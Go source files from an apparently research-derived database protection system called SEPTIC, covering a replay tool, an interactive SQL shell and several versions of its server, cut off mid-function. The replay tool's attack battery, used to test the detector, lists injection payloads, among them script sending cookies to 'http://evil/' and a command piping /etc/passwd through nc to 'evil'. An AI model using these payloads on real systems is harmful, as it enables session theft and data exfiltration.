//	curl localhost:9188/events?kind=attack
package main

import (
	"flag"
	"fmt"
	"os"

	"github.com/septic-db/septic/internal/webapp"
	"github.com/septic-db/septic/internal/webapp/apps"
	"github.com/septic-db/septic/internal/wire"
)

// attackRequests is one representative per detector: a numeric-context
// tautology (structural), the paper's U+02BC semantic mismatch through a
// sanitized string context (syntactical after decoding), and a stored
// payload for each plugin in the chain.
func attackRequests() []webapp.Request {
	return []webapp.Request{
		{Path: "/contact", Params: map[string]string{"id": "1 OR 1=1"}},
		{Path: "/search", Params: map[string]string{"q": "anaʼ OR ʼ1ʼ=ʼ1"}},
		{Path: "/contact/add", Params: map[string]string{
			"name": "mallory", "phone": "1",
			"email": "<script>document.location='http://evil/'+document.cookie</script>"}},
		{Path: "/contact/add", Params: map[string]string{
			"name": "mallory", "phone": "1", "address": "../../../../etc/passwd"}},
		{Path: "/contact/add", Params: map[string]string{
			"name": "mallory", "phone": "; cat /etc/passwd | nc evil 4444"}},
	}
}

func main() {
	var (
		addr    = flag.String("addr", "127.0.0.1:3306", "septicd address")
		rounds  = flag.Int("rounds", 3, "benign workload rounds (first round trains incrementally)")
		attacks = flag.Bool("attacks", false, "fire the attack battery after the benign rounds")
	)
	flag.Parse()
	if err := run(*addr, *rounds, *attacks); err != nil {
		fmt.Fprintln(os.Stderr, "septic-replay:", err)
		os.Exit(1)
	}
}

func run(addr string, rounds int, attacks bool) error {
	client, err := wire.Dial(addr)
	if err != nil {
		return err
	}
	defer client.Close()

	for _, ddl := range apps.AddressBookSchema() {
		if _, err := client.Exec(ddl); err != nil {
			return fmt.Errorf("schema: %w", err)
		}
	}
	app := apps.NewAddressBook(client)

	served, failed := 0, 0
	for round := 0; round < rounds; round++ {
		reqs := apps.AddressBookTraining()
		if round > 0 {
			reqs = apps.AddressBookWorkload()
		}
		for _, req := range reqs {
			if resp := app.Serve(req); resp.Status == 200 {
				served++
			} else {
				failed++
				fmt.Fprintf(os.Stderr, "septic-replay: %s -> %d (%v)\n",
					req.Path, resp.Status, resp.Err)
			}
		}
	}
	fmt.Printf("septic-replay: benign workload: %d requests served, %d failed\n", served, failed)

	if attacks {
		blocked := 0
		for _, req := range attackRequests() {
			resp := app.Serve(req)
			if resp.Blocked {
				blocked++
			}
			fmt.Printf("septic-replay: attack %-14s blocked=%t\n", req.Path, resp.Blocked)
		}
		fmt.Printf("septic-replay: %d/%d attacks blocked\n", blocked, len(attackRequests()))
		if blocked != len(attackRequests()) {
			return fmt.Errorf("%d attacks were not blocked", len(attackRequests())-blocked)
		}
	}
	return nil
}
