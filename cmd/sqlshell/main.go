// Command sqlshell is an interactive SQL shell against either an
// in-process SEPTIC-protected engine (default) or a remote septicd
// server (-connect). It is the "mysql client" of the demonstration:
// type queries, watch SEPTIC's verdicts.
//
// Shell commands: \mode training|detection|prevention, \events, \stats,
// \models, \quit.
package main

import (
	"bufio"
	"errors"
	"flag"
	"fmt"
	"os"
	"strings"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/wire"
)

// executor abstracts local and remote execution for the shell.
type executor interface {
	Exec(query string) (*engine.Result, error)
}

func main() {
	connect := flag.String("connect", "", "connect to a septicd address instead of running in-process")
	flag.Parse()
	if err := run(*connect); err != nil {
		fmt.Fprintln(os.Stderr, "sqlshell:", err)
		os.Exit(1)
	}
}

func run(connect string) error {
	var (
		exec  executor
		guard *core.Septic
	)
	if connect != "" {
		client, err := wire.Dial(connect)
		if err != nil {
			return err
		}
		defer client.Close()
		exec = client
		fmt.Printf("connected to %s\n", connect)
	} else {
		guard = core.New(core.Config{
			Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
			IncrementalLearning: true,
		})
		exec = engine.New(engine.WithQueryHook(guard))
		fmt.Println("in-process engine with SEPTIC (prevention mode, incremental learning)")
	}
	fmt.Println(`type SQL, or \mode, \events, \stats, \models, \pending, \approve <id>, \reject <id>, \quit`)

	scanner := bufio.NewScanner(os.Stdin)
	scanner.Buffer(make([]byte, 1<<20), 1<<20)
	for {
		fmt.Print("septic> ")
		if !scanner.Scan() {
			fmt.Println()
			return scanner.Err()
		}
		line := strings.TrimSpace(scanner.Text())
		switch {
		case line == "":
			continue
		case line == `\quit` || line == `\q`:
			return nil
		case strings.HasPrefix(line, `\mode`):
			if guard == nil {
				fmt.Println("mode control is only available in-process")
				continue
			}
			switchMode(guard, strings.TrimSpace(strings.TrimPrefix(line, `\mode`)))
		case line == `\events`:
			if guard == nil {
				fmt.Println("events are only available in-process")
				continue
			}
			for _, e := range guard.Logger().Events() {
				fmt.Println(e.String())
			}
		case line == `\stats`:
			if guard == nil {
				fmt.Println("stats are only available in-process")
				continue
			}
			s := guard.Stats()
			fmt.Printf("seen=%d learned=%d attacks=%d blocked=%d\n",
				s.QueriesSeen, s.ModelsLearned, s.AttacksFound, s.AttacksBlocked)
		case line == `\models`:
			if guard == nil {
				fmt.Println("models are only available in-process")
				continue
			}
			for _, u := range guard.Store().UsageReport() {
				marker := ""
				if u.Incremental {
					marker = "  [pending review]"
				}
				fmt.Printf("%-50s models=%d hits=%d%s\n", u.ID, u.Models, u.Hits, marker)
			}
		case line == `\pending`:
			if guard == nil {
				fmt.Println("review is only available in-process")
				continue
			}
			pending := guard.Store().PendingReview()
			if len(pending) == 0 {
				fmt.Println("nothing pending review")
			}
			for _, id := range pending {
				fmt.Println(id)
			}
		case strings.HasPrefix(line, `\approve `):
			if guard == nil {
				fmt.Println("review is only available in-process")
				continue
			}
			id := strings.TrimSpace(strings.TrimPrefix(line, `\approve`))
			if guard.Store().Approve(id) {
				fmt.Println("approved", id)
			} else {
				fmt.Println("unknown id", id)
			}
		case strings.HasPrefix(line, `\reject `):
			if guard == nil {
				fmt.Println("review is only available in-process")
				continue
			}
			id := strings.TrimSpace(strings.TrimPrefix(line, `\reject`))
			guard.Store().Delete(id)
			fmt.Println("rejected (models deleted)", id)
		default:
			runQuery(exec, line)
		}
	}
}

func switchMode(guard *core.Septic, name string) {
	switch name {
	case "training":
		guard.SetMode(core.ModeTraining)
	case "detection":
		guard.SetMode(core.ModeDetection)
	case "prevention":
		guard.SetMode(core.ModePrevention)
	default:
		fmt.Printf("unknown mode %q (training, detection, prevention)\n", name)
		return
	}
	fmt.Printf("mode set to %s\n", name)
}

func runQuery(exec executor, query string) {
	res, err := exec.Exec(query)
	if err != nil {
		if errors.Is(err, engine.ErrQueryBlocked) {
			fmt.Println("BLOCKED by SEPTIC:", err)
		} else {
			fmt.Println("error:", err)
		}
		return
	}
	printResult(res)
}

func printResult(res *engine.Result) {
	if len(res.Columns) == 0 {
		fmt.Printf("OK, %d row(s) affected", res.Affected)
		if res.LastInsertID != 0 {
			fmt.Printf(", last insert id %d", res.LastInsertID)
		}
		fmt.Println()
		return
	}
	widths := make([]int, len(res.Columns))
	for i, c := range res.Columns {
		widths[i] = len(c)
	}
	cells := make([][]string, len(res.Rows))
	for r, row := range res.Rows {
		cells[r] = make([]string, len(row))
		for i, v := range row {
			s := v.String()
			cells[r][i] = s
			if i < len(widths) && len(s) > widths[i] {
				widths[i] = len(s)
			}
		}
	}
	sep := "+"
	for _, w := range widths {
		sep += strings.Repeat("-", w+2) + "+"
	}
	fmt.Println(sep)
	fmt.Print("|")
	for i, c := range res.Columns {
		fmt.Printf(" %-*s |", widths[i], c)
	}
	fmt.Println()
	fmt.Println(sep)
	for _, row := range cells {
		fmt.Print("|")
		for i, s := range row {
			fmt.Printf(" %-*s |", widths[i], s)
		}
		fmt.Println()
	}
	fmt.Println(sep)
	fmt.Printf("%d row(s)\n", len(res.Rows))
}
