// Command septicd runs the SEPTIC-protected database server: the
// equivalent of the demo's "MySQL DBMS server, including the SEPTIC
// mechanism" virtual machine.
//
// Usage:
//
//	septicd [-addr 127.0.0.1:3306] [-mode training|detection|prevention]
//	        [-models models.json] [-sqli] [-stored]
//	        [-max-conns N] [-query-timeout D] [-idle-timeout D]
//	        [-drain-timeout D] [-fail-open] [-obs-addr 127.0.0.1:9188]
//
// With -obs-addr the server additionally exposes live introspection over
// HTTP: /metrics (JSON, ?format=prometheus for text exposition), /events
// (the structured event ring, ?kind= and ?n= filters), /qm (the learned
// query-model store rendered as paper-style item stacks) and
// /debug/pprof. The endpoint is opt-in; without the flag the pipeline
// runs with observability disabled at zero cost.
//
// The server speaks the wire protocol of internal/wire. Query models are
// loaded from -models at startup when the file exists, and saved there
// on SIGINT/SIGTERM shutdown, mirroring the demo's persistent-model
// restart (phase D).
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/obs"
	"github.com/septic-db/septic/internal/wire"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "septicd:", err)
		os.Exit(1)
	}
}

func run() error {
	var (
		addr      = flag.String("addr", "127.0.0.1:3306", "listen address")
		modeName  = flag.String("mode", "prevention", "septic mode: training, detection or prevention")
		modelPath = flag.String("models", "", "query-model store path (loaded if present, saved on shutdown)")
		sqli      = flag.Bool("sqli", true, "enable SQLI detection")
		stored    = flag.Bool("stored", true, "enable stored-injection detection")
		quiet     = flag.Bool("quiet", false, "suppress the live event display")
		audit     = flag.String("audit", "", "append JSON audit records to this file")

		maxConns     = flag.Int("max-conns", 256, "maximum concurrent sessions (0 = unlimited)")
		queryTimeout = flag.Duration("query-timeout", 30*time.Second, "per-query execution timeout (0 = none)")
		idleTimeout  = flag.Duration("idle-timeout", 5*time.Minute, "disconnect sessions idle for this long (0 = never)")
		drainTimeout = flag.Duration("drain-timeout", 5*time.Second, "graceful-shutdown drain deadline before force-closing sessions")
		failOpen     = flag.Bool("fail-open", false, "admit queries when the protection path faults (default fail-closed)")
		obsAddr      = flag.String("obs-addr", "", "serve /metrics, /events, /qm and /debug/pprof on this address (empty = observability off)")
	)
	flag.Parse()

	var mode core.Mode
	switch *modeName {
	case "training":
		mode = core.ModeTraining
	case "detection":
		mode = core.ModeDetection
	case "prevention":
		mode = core.ModePrevention
	default:
		return fmt.Errorf("unknown mode %q", *modeName)
	}

	var loggerOpts []core.LoggerOption
	if !*quiet {
		loggerOpts = append(loggerOpts, core.WithStream(os.Stdout))
	}
	if *audit != "" {
		f, err := os.OpenFile(*audit, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
		if err != nil {
			return fmt.Errorf("open audit log: %w", err)
		}
		defer f.Close()
		loggerOpts = append(loggerOpts, core.WithJSONStream(f))
	}
	store := core.NewStore()
	if *modelPath != "" {
		if _, err := os.Stat(*modelPath); err == nil {
			if err := store.Load(*modelPath); err != nil {
				return fmt.Errorf("load models: %w", err)
			}
			fmt.Printf("septicd: loaded %d query models from %s\n", store.Len(), *modelPath)
		}
	}
	var hub *obs.Hub
	if *obsAddr != "" {
		hub = obs.NewHub(obs.DefaultRingCapacity)
	}
	coreOpts := []core.SepticOption{
		core.WithStore(store), core.WithLogger(core.NewLogger(loggerOpts...)),
	}
	engineOpts := []engine.Option{}
	serverOpts := []wire.ServerOption{
		wire.WithMaxConns(*maxConns),
		wire.WithQueryTimeout(*queryTimeout),
		wire.WithIdleTimeout(*idleTimeout),
	}
	if hub != nil {
		coreOpts = append(coreOpts, core.WithObserver(hub))
		engineOpts = append(engineOpts, engine.WithObs(hub))
		serverOpts = append(serverOpts, wire.WithServerObs(hub))
	}
	guard := core.New(core.Config{
		Mode:                mode,
		DetectSQLI:          *sqli,
		DetectStored:        *stored,
		IncrementalLearning: true,
		FailOpen:            *failOpen,
	}, coreOpts...)

	engineOpts = append(engineOpts, engine.WithQueryHook(guard))
	db := engine.New(engineOpts...)
	srv := wire.NewServer(db, serverOpts...)
	bound, err := srv.Listen(*addr)
	if err != nil {
		return err
	}

	if hub != nil {
		qmDump := func() any { return store.Dump() }
		obsLn, err := net.Listen("tcp", *obsAddr)
		if err != nil {
			return fmt.Errorf("obs listen %s: %w", *obsAddr, err)
		}
		obsSrv := &http.Server{Handler: obs.Handler(hub, qmDump)}
		go func() {
			if err := obsSrv.Serve(obsLn); err != nil && !errors.Is(err, http.ErrServerClosed) {
				fmt.Fprintln(os.Stderr, "septicd: obs server:", err)
			}
		}()
		defer obsSrv.Close()
		fmt.Printf("septicd: observability on http://%s (/metrics /events /qm /debug/pprof)\n",
			obsLn.Addr())
	}
	policy := "fail-closed"
	if *failOpen {
		policy = "fail-open"
	}
	fmt.Printf("septicd: listening on %s (mode=%s sqli=%t stored=%t policy=%s max-conns=%d)\n",
		bound, mode, *sqli, *stored, policy, *maxConns)

	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGINT, syscall.SIGTERM)
	<-sig

	fmt.Println("\nsepticd: draining sessions")
	ctx, cancel := context.WithTimeout(context.Background(), *drainTimeout)
	defer cancel()
	if err := srv.Shutdown(ctx); err != nil {
		if !errors.Is(err, context.DeadlineExceeded) {
			return err
		}
		fmt.Println("septicd: drain deadline exceeded, sessions force-closed")
	}
	if *modelPath != "" {
		if err := guard.Store().Save(*modelPath); err != nil {
			return fmt.Errorf("save models: %w", err)
		}
		fmt.Printf("septicd: saved %d query models to %s\n", guard.Store().Len(), *modelPath)
	}
	stats := guard.Stats()
	fmt.Printf("septicd: %d queries seen, %d models learned, %d attacks (%d blocked)\n",
		stats.QueriesSeen, stats.ModelsLearned, stats.AttacksFound, stats.AttacksBlocked)
	if pending := guard.Store().PendingReview(); len(pending) > 0 {
		fmt.Printf("septicd: %d incrementally learned identifiers await review:\n", len(pending))
		for _, id := range pending {
			fmt.Println("  " + id)
		}
	}
	return nil
}
