// Command septicd runs the SEPTIC-protected database server: the
// equivalent of the demo's "MySQL DBMS server, including the SEPTIC
// mechanism" virtual machine.
//
// Usage:
//
//	septicd [-addr 127.0.0.1:3306] [-mode training|detection|prevention]
//	        [-models models.json] [-sqli] [-stored]
//
// The server speaks the wire protocol of internal/wire. Query models are
// loaded from -models at startup when the file exists, and saved there
// on SIGINT/SIGTERM shutdown, mirroring the demo's persistent-model
// restart (phase D).
package main

import (
	"flag"
	"fmt"
	"os"
	"os/signal"
	"syscall"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/wire"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "septicd:", err)
		os.Exit(1)
	}
}

func run() error {
	var (
		addr      = flag.String("addr", "127.0.0.1:3306", "listen address")
		modeName  = flag.String("mode", "prevention", "septic mode: training, detection or prevention")
		modelPath = flag.String("models", "", "query-model store path (loaded if present, saved on shutdown)")
		sqli      = flag.Bool("sqli", true, "enable SQLI detection")
		stored    = flag.Bool("stored", true, "enable stored-injection detection")
		quiet     = flag.Bool("quiet", false, "suppress the live event display")
		audit     = flag.String("audit", "", "append JSON audit records to this file")
	)
	flag.Parse()

	var mode core.Mode
	switch *modeName {
	case "training":
		mode = core.ModeTraining
	case "detection":
		mode = core.ModeDetection
	case "prevention":
		mode = core.ModePrevention
	default:
		return fmt.Errorf("unknown mode %q", *modeName)
	}

	var loggerOpts []core.LoggerOption
	if !*quiet {
		loggerOpts = append(loggerOpts, core.WithStream(os.Stdout))
	}
	if *audit != "" {
		f, err := os.OpenFile(*audit, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
		if err != nil {
			return fmt.Errorf("open audit log: %w", err)
		}
		defer f.Close()
		loggerOpts = append(loggerOpts, core.WithJSONStream(f))
	}
	store := core.NewStore()
	if *modelPath != "" {
		if _, err := os.Stat(*modelPath); err == nil {
			if err := store.Load(*modelPath); err != nil {
				return fmt.Errorf("load models: %w", err)
			}
			fmt.Printf("septicd: loaded %d query models from %s\n", store.Len(), *modelPath)
		}
	}
	guard := core.New(core.Config{
		Mode:                mode,
		DetectSQLI:          *sqli,
		DetectStored:        *stored,
		IncrementalLearning: true,
	}, core.WithStore(store), core.WithLogger(core.NewLogger(loggerOpts...)))

	db := engine.New(engine.WithQueryHook(guard))
	srv := wire.NewServer(db)
	bound, err := srv.Listen(*addr)
	if err != nil {
		return err
	}
	fmt.Printf("septicd: listening on %s (mode=%s sqli=%t stored=%t)\n",
		bound, mode, *sqli, *stored)

	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGINT, syscall.SIGTERM)
	<-sig

	fmt.Println("\nsepticd: shutting down")
	if err := srv.Close(); err != nil {
		return err
	}
	if *modelPath != "" {
		if err := guard.Store().Save(*modelPath); err != nil {
			return fmt.Errorf("save models: %w", err)
		}
		fmt.Printf("septicd: saved %d query models to %s\n", guard.Store().Len(), *modelPath)
	}
	stats := guard.Stats()
	fmt.Printf("septicd: %d queries seen, %d models learned, %d attacks (%d blocked)\n",
		stats.QueriesSeen, stats.ModelsLearned, stats.AttacksFound, stats.AttacksBlocked)
	if pending := guard.Store().PendingReview(); len(pending) > 0 {
		fmt.Printf("septicd: %d incrementally learned identifiers await review:\n", len(pending))
		for _, id := range pending {
			fmt.Println("  " + id)
		}
	}
	return nil
}
