// Command septicd runs the SEPTIC-protected database server: the
// equivalent of the demo's "MySQL DBMS server, including the SEPTIC
// mechanism" virtual machine.
//
// Usage:
//
//	septicd [-addr 127.0.0.1:3306] [-mode training|detection|prevention]
//	        [-models models.json] [-sqli] [-stored]
//	        [-domains domains.json]
//	        [-wal-dir DIR] [-wal-fsync always|interval|never]
//	        [-checkpoint-interval D] [-wal-force-recover]
//	        [-max-conns N] [-query-timeout D] [-idle-timeout D]
//	        [-drain-timeout D] [-fail-open] [-obs-addr 127.0.0.1:9188]
//	        [-pipeline-workers N] [-max-in-flight N]
//	        [-shed-target D] [-max-concurrent N]
//	        [-repl-listen ADDR] [-replicate-from ADDR]
//
// With -wal-dir the server is also a replication primary: replicas may
// subscribe to the model WAL over the main port (a HELLO handshake with
// the repl flag) or over a dedicated -repl-listen address. A server
// started with -replicate-from becomes a read replica of that primary:
// it boots from the primary's snapshot (or resumes from its own WAL when
// -wal-dir is set — a restart never re-requests the snapshot while the
// primary retains the tail), follows the live stream, and serves
// detection-mode reads while refusing local training writes. Run
// replicas with -mode detection; reconnects use jittered exponential
// backoff.
//
// With -wal-dir the learned models become crash-safe: every model
// learned, deleted or approved — in every protection domain — and every
// mode change is appended to a write-ahead log in DIR before it is
// acknowledged, and a background checkpointer (period
// -checkpoint-interval, 0 disables) compacts the log into an atomic
// snapshot. On startup the checkpoint plus the WAL tail are replayed,
// so a crash (not just a clean SIGTERM) loses no acknowledged training
// update under the default -wal-fsync=always; "interval" batches fsyncs
// (bounded loss window, much cheaper) and "never" leaves flushing to
// the OS. The -models/-domains snapshot files remain supported and are
// still written on clean shutdown; with a WAL they are belt to its
// suspenders. The WAL directory is single-writer (a second septicd on
// the same -wal-dir fails fast at boot), and damage in the middle of
// the log — which a crash alone can never cause — refuses to boot
// rather than silently dropping the acknowledged records beyond it;
// -wal-force-recover is the explicit override that truncates the damage
// and continues with what is intact before it.
//
// -pipeline-workers and -max-in-flight size the v2 pipelined protocol's
// per-session worker pool and admission window (clients that negotiate
// protocol version 2 multiplex up to max-in-flight requests over one
// connection; v1 clients are unaffected).
//
// With -domains the server becomes multi-tenant: the JSON file maps
// application names to per-domain policy, one protection domain each —
// its own query-model store, operation mode and fail policy. Clients
// reach their domain by declaring the application in the wire HELLO
// handshake or by prefixing queries with "/* app:query-id */" comments;
// everything else lands in the default domain, configured by the global
// flags as before. Per-domain stores are loaded at startup and saved on
// shutdown next to the default -models store. The file layout:
//
//	{
//	  "shop":  {"mode": "prevention", "sqli": true, "stored": true,
//	            "fail_open": false, "store": "shop-models.json"},
//	  "blog":  {"mode": "training", "store": "blog-models.json"}
//	}
//
// Omitted booleans default to true for sqli/stored/incremental and
// false for fail_open; "mode" is required. Entries may additionally
// carry per-domain overload policy: "quota_rate" (sustained
// queries/second), "quota_burst" (bucket depth), "max_in_flight"
// (concurrent-query bound) and "breaker": true (+"breaker_slow_ms")
// to arm a circuit breaker around the domain's detection pipeline —
// when it trips, cached verdicts keep being served and misses follow
// the domain's fail policy until the pipeline recovers (brownout).
//
// With -shed-target the server sheds load adaptively: when the
// estimated queueing delay exceeds the target, requests are refused
// with a typed shed response carrying a retry-after hint instead of
// queueing without bound (-max-concurrent sizes the execution gate;
// the default 4×GOMAXPROCS suits CPU-bound detection). Shedding is
// per-request and keeps the session alive; clients retry after the
// hint. /healthz on -obs-addr reports 503 while draining or shedding.
//
// With -obs-addr the server additionally exposes live introspection over
// HTTP: /metrics (JSON, ?format=prometheus for text exposition), /events
// (the structured event ring, ?kind= and ?n= filters), /qm (the learned
// query-model store rendered as paper-style item stacks) and
// /debug/pprof. The endpoint is opt-in; without the flag the pipeline
// runs with observability disabled at zero cost.
//
// The server speaks the wire protocol of internal/wire. Query models are
// loaded from -models at startup when the file exists, and saved there
// on SIGINT/SIGTERM shutdown, mirroring the demo's persistent-model
// restart (phase D).
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"runtime"
	"sort"
	"syscall"
	"time"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/obs"
	"github.com/septic-db/septic/internal/overload"
	"github.com/septic-db/septic/internal/repl"
	"github.com/septic-db/septic/internal/wal"
	"github.com/septic-db/septic/internal/wire"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "septicd:", err)
		os.Exit(1)
	}
}

// domainSpec is one entry of the -domains file.
type domainSpec struct {
	Mode string `json:"mode"`
	// The three-valued booleans distinguish "omitted" (nil → default)
	// from an explicit false.
	SQLI        *bool `json:"sqli"`
	Stored      *bool `json:"stored"`
	Incremental *bool `json:"incremental"`
	FailOpen    bool  `json:"fail_open"`
	// Store is the domain's persistence path; empty disables persistence
	// for this domain.
	Store string `json:"store"`

	// Overload policy, all optional. QuotaRate caps the domain's
	// sustained queries/second (0 = unlimited); QuotaBurst is the bucket
	// depth (0 = rate); MaxInFlight bounds the domain's concurrent
	// queries (0 = unlimited). Breaker arms the detection circuit
	// breaker; BreakerSlowMS additionally counts detection runs slower
	// than this many milliseconds as failures (0 = latency ignored).
	QuotaRate     float64 `json:"quota_rate"`
	QuotaBurst    float64 `json:"quota_burst"`
	MaxInFlight   int     `json:"max_in_flight"`
	Breaker       bool    `json:"breaker"`
	BreakerSlowMS int     `json:"breaker_slow_ms"`
}

// overloadControls builds the per-domain overload policy out of a
// domains-file entry, or nil when the entry configures none.
func (spec domainSpec) overloadControls() *overload.Controls {
	var q *overload.Quota
	if spec.QuotaRate > 0 || spec.MaxInFlight > 0 {
		q = overload.NewQuota(overload.QuotaSpec{
			Rate:        spec.QuotaRate,
			Burst:       spec.QuotaBurst,
			MaxInFlight: spec.MaxInFlight,
		})
	}
	var b *overload.Breaker
	if spec.Breaker {
		b = overload.NewBreaker(overload.BreakerOptions{
			SlowCall: time.Duration(spec.BreakerSlowMS) * time.Millisecond,
		})
	}
	if q == nil && b == nil {
		return nil
	}
	return overload.NewControls(q, b)
}

// parseMode maps a -mode / domains-file mode string.
func parseMode(name string) (core.Mode, error) {
	switch name {
	case "training":
		return core.ModeTraining, nil
	case "detection":
		return core.ModeDetection, nil
	case "prevention":
		return core.ModePrevention, nil
	default:
		return core.ModeInvalid, fmt.Errorf("unknown mode %q", name)
	}
}

// orTrue resolves an omitted boolean to true.
func orTrue(b *bool) bool { return b == nil || *b }

// loadDomains reads the -domains file and registers one protection
// domain per entry (sorted, for deterministic startup output), loading
// each domain's persisted store when its file exists. It returns the
// store paths keyed by domain name for the shutdown save.
func loadDomains(guard *core.Septic, path string) (map[string]string, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("read domains file: %w", err)
	}
	var specs map[string]domainSpec
	if err := json.Unmarshal(data, &specs); err != nil {
		return nil, fmt.Errorf("decode domains file: %w", err)
	}
	names := make([]string, 0, len(specs))
	for name := range specs {
		names = append(names, name)
	}
	sort.Strings(names)
	stores := make(map[string]string)
	for _, name := range names {
		spec := specs[name]
		mode, err := parseMode(spec.Mode)
		if err != nil {
			return nil, fmt.Errorf("domain %q: %w", name, err)
		}
		d, err := guard.RegisterDomain(name, core.Config{
			Mode:                mode,
			DetectSQLI:          orTrue(spec.SQLI),
			DetectStored:        orTrue(spec.Stored),
			IncrementalLearning: orTrue(spec.Incremental),
			FailOpen:            spec.FailOpen,
		})
		if err != nil {
			return nil, err
		}
		if ctl := spec.overloadControls(); ctl != nil {
			d.SetOverload(ctl)
		}
		if spec.Store == "" {
			fmt.Printf("septicd: domain %s (mode=%s, no persistence)\n", name, mode)
			continue
		}
		stores[name] = spec.Store
		if _, err := os.Stat(spec.Store); err == nil {
			if err := d.Store().Load(spec.Store); err != nil {
				return nil, fmt.Errorf("domain %q: load models: %w", name, err)
			}
		}
		fmt.Printf("septicd: domain %s (mode=%s, %d query models from %s)\n",
			name, mode, d.Store().Len(), spec.Store)
	}
	return stores, nil
}

// saveDomains persists every registered domain's store on shutdown.
func saveDomains(guard *core.Septic, stores map[string]string) error {
	names := make([]string, 0, len(stores))
	for name := range stores {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		d, ok := guard.Domain(name)
		if !ok {
			continue
		}
		if err := d.Store().Save(stores[name]); err != nil {
			return fmt.Errorf("domain %q: save models: %w", name, err)
		}
		fmt.Printf("septicd: domain %s: saved %d query models to %s\n",
			name, d.Store().Len(), stores[name])
	}
	return nil
}

func run() error {
	var (
		addr      = flag.String("addr", "127.0.0.1:3306", "listen address")
		modeName  = flag.String("mode", "prevention", "septic mode: training, detection or prevention")
		modelPath = flag.String("models", "", "query-model store path (loaded if present, saved on shutdown)")
		domains   = flag.String("domains", "", "protection-domain config file (JSON; multi-tenant mode)")
		sqli      = flag.Bool("sqli", true, "enable SQLI detection")
		stored    = flag.Bool("stored", true, "enable stored-injection detection")
		quiet     = flag.Bool("quiet", false, "suppress the live event display")
		audit     = flag.String("audit", "", "append JSON audit records to this file")

		maxConns     = flag.Int("max-conns", 256, "maximum concurrent sessions (0 = unlimited)")
		queryTimeout = flag.Duration("query-timeout", 30*time.Second, "per-query execution timeout (0 = none)")
		idleTimeout  = flag.Duration("idle-timeout", 5*time.Minute, "disconnect sessions idle for this long (0 = never)")
		drainTimeout = flag.Duration("drain-timeout", 5*time.Second, "graceful-shutdown drain deadline before force-closing sessions")
		failOpen     = flag.Bool("fail-open", false, "admit queries when the protection path faults (default fail-closed)")
		obsAddr      = flag.String("obs-addr", "", "serve /metrics, /events, /qm and /debug/pprof on this address (empty = observability off)")

		pipeWorkers = flag.Int("pipeline-workers", wire.DefaultPipelineWorkers,
			"per-session worker pool for v2 pipelined sessions")
		maxInFlight = flag.Int("max-in-flight", wire.DefaultMaxInFlight,
			"per-session admission bound for v2 pipelined sessions")

		shedTarget = flag.Duration("shed-target", 0,
			"queueing-delay target for adaptive load shedding (0 = shedding off)")
		maxConcurrent = flag.Int("max-concurrent", 0,
			"server-wide concurrent query bound behind -shed-target (0 = 4×GOMAXPROCS)")

		walDir             = flag.String("wal-dir", "", "write-ahead-log directory for crash-safe model durability (empty = off)")
		walFsync           = flag.String("wal-fsync", "always", "WAL durability policy: always, interval or never")
		walForceRecover    = flag.Bool("wal-force-recover", false,
			"boot past mid-log WAL damage, truncating it and dropping every record beyond it")
		checkpointInterval = flag.Duration("checkpoint-interval", time.Minute,
			"background WAL checkpoint/compaction period (0 = only at shutdown)")

		replListen    = flag.String("repl-listen", "", "dedicated replication listener address (requires -wal-dir; empty = serve replication on the main port only)")
		replicateFrom = flag.String("replicate-from", "", "primary address to replicate from (makes this server a read replica)")
	)
	flag.Parse()

	mode, err := parseMode(*modeName)
	if err != nil {
		return err
	}

	var loggerOpts []core.LoggerOption
	if !*quiet {
		loggerOpts = append(loggerOpts, core.WithStream(os.Stdout))
	}
	if *audit != "" {
		f, err := os.OpenFile(*audit, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
		if err != nil {
			return fmt.Errorf("open audit log: %w", err)
		}
		defer f.Close()
		loggerOpts = append(loggerOpts, core.WithJSONStream(f))
	}
	store := core.NewStore()
	if *modelPath != "" {
		if _, err := os.Stat(*modelPath); err == nil {
			if err := store.Load(*modelPath); err != nil {
				return fmt.Errorf("load models: %w", err)
			}
			fmt.Printf("septicd: loaded %d query models from %s\n", store.Len(), *modelPath)
		}
	}
	var hub *obs.Hub
	if *obsAddr != "" {
		hub = obs.NewHub(obs.DefaultRingCapacity)
	}
	coreOpts := []core.SepticOption{
		core.WithStore(store), core.WithLogger(core.NewLogger(loggerOpts...)),
	}
	engineOpts := []engine.Option{}
	serverOpts := []wire.ServerOption{
		wire.WithMaxConns(*maxConns),
		wire.WithQueryTimeout(*queryTimeout),
		wire.WithIdleTimeout(*idleTimeout),
		wire.WithPipelineWorkers(*pipeWorkers),
		wire.WithMaxInFlight(*maxInFlight),
	}
	var adm *overload.Admission
	if *shedTarget > 0 {
		capacity := *maxConcurrent
		if capacity <= 0 {
			capacity = 4 * runtime.GOMAXPROCS(0)
		}
		adm = overload.NewAdmission(overload.AdmissionOptions{
			Target:   *shedTarget,
			Capacity: capacity,
		})
		serverOpts = append(serverOpts, wire.WithAdmission(adm))
	}
	if hub != nil {
		coreOpts = append(coreOpts, core.WithObserver(hub))
		engineOpts = append(engineOpts, engine.WithObs(hub))
		serverOpts = append(serverOpts, wire.WithServerObs(hub))
	}
	guard := core.New(core.Config{
		Mode:                mode,
		DetectSQLI:          *sqli,
		DetectStored:        *stored,
		IncrementalLearning: true,
		FailOpen:            *failOpen,
